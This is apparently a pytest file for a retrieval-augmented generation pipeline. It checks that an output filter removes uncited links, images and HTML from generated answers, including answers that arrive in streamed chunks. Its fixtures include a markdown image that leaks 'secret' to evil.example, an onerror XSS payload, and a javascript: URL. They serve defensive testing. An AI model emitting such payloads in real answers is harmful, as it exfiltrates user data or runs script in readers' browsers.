"""What an answer may not make a reader's program do."""

from collections.abc import Generator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.passages import passage

from rag_pipeline.generation.grounding import cited
from rag_pipeline.generation.matching import single_spans
from rag_pipeline.generation.output_filter import filtered, safe
from storage.records import Citation

IMAGE = "![logo](https://evil.example/p.png?q=secret)"
FOREIGN = (
    IMAGE,
    "[the site](https://evil.example)",
    "[the site][ref]",
    "https://evil.example/a?b=c",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "<!-- note -->",
    "www.evil.example",
    "javascript:alert(1)",
    "data:text/html,hi",
)


def citation(quote: str, start: int, end: int) -> Citation:
    (span,) = single_spans(passage(quote))
    found = cited(span, start, end, 1.0).citation
    assert found is not None
    return found


def written(pieces: Sequence[str]) -> Generator[str, None, str]:
    yield from pieces
    return "done"


def shown(pieces: Sequence[str], quotes: Sequence[str] = ()) -> tuple[str, str]:
    stream, text = safe(written(pieces), quotes), ""
    while True:
        try:
            text += next(stream)
        except StopIteration as ended:
            return text, ended.value


@pytest.mark.parametrize("foreign", FOREIGN)
def test_what_is_not_cited_is_taken_out(foreign: str) -> None:
    kept = filtered(f"Open {foreign} now.", [citation("Open it now.", 0, 10)])
    assert kept.removed == (foreign,)
    assert "evil" not in kept.text
    assert "<" not in kept.text
    assert "!" not in kept.text
    assert kept.text.startswith("Open ")
    assert kept.text.endswith(" now.")


@pytest.mark.parametrize("foreign", FOREIGN)
def test_what_a_cited_span_says_word_for_word_stays(foreign: str) -> None:
    text = f"Open {foreign} now."
    assert filtered(text, [citation(text, 0, len(text))]).text == text


def test_of_a_link_the_words_stay() -> None:
    assert filtered("See [the site](https://evil.example).", []).text == "See the site."


def test_citations_move_with_the_text() -> None:
    text = f"One. {IMAGE} Two."
    first, second = citation("One.", 0, 4), citation("Two.", text.index("Two."), len(text))
    kept = filtered(text, [first, second])
    parts = [kept.text[one.answer_start : one.answer_end] for one in kept.citations]
    assert parts == ["One.", "Two."]


def test_plain_words_with_brackets_stay() -> None:
    text = "In [1] a < b; see section [2] and note (3). Is x > y?"
    assert filtered(text, []).text == text


@pytest.mark.parametrize("foreign", FOREIGN)
@pytest.mark.parametrize("size", [1, 3, 7])
def test_a_stream_never_shows_it_however_it_is_cut(foreign: str, size: int) -> None:
    text = f"Open {foreign} now."
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    told, returned = shown(pieces)
    assert "evil" not in told
    assert "alert" not in told
    assert (told[:5], told[-5:], returned) == ("Open ", " now.", "done")
    assert shown(pieces, [text])[0] == text


@given(st.lists(st.text(alphabet="ab [](!)<>:/.htpsw\n", max_size=8), max_size=20))
def test_a_stream_shows_all_of_what_is_quoted(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert shown(pieces, [text])[0] == text


def test_plain_words_are_not_held_back() -> None:
    stream = safe(written(["The ", "tower ", "stands."]), [])
    assert [*stream] == ["The ", "tower ", "stands."]


def test_closing_closes_the_stream() -> None:
    closed: list[bool] = []

    def pieces() -> Generator[str, None, None]:
        try:
            yield "One "
            yield "two "
        finally:
            closed.append(True)

    stream = safe(pieces(), [])
    next(stream)
    stream.close()
    assert closed == [True]
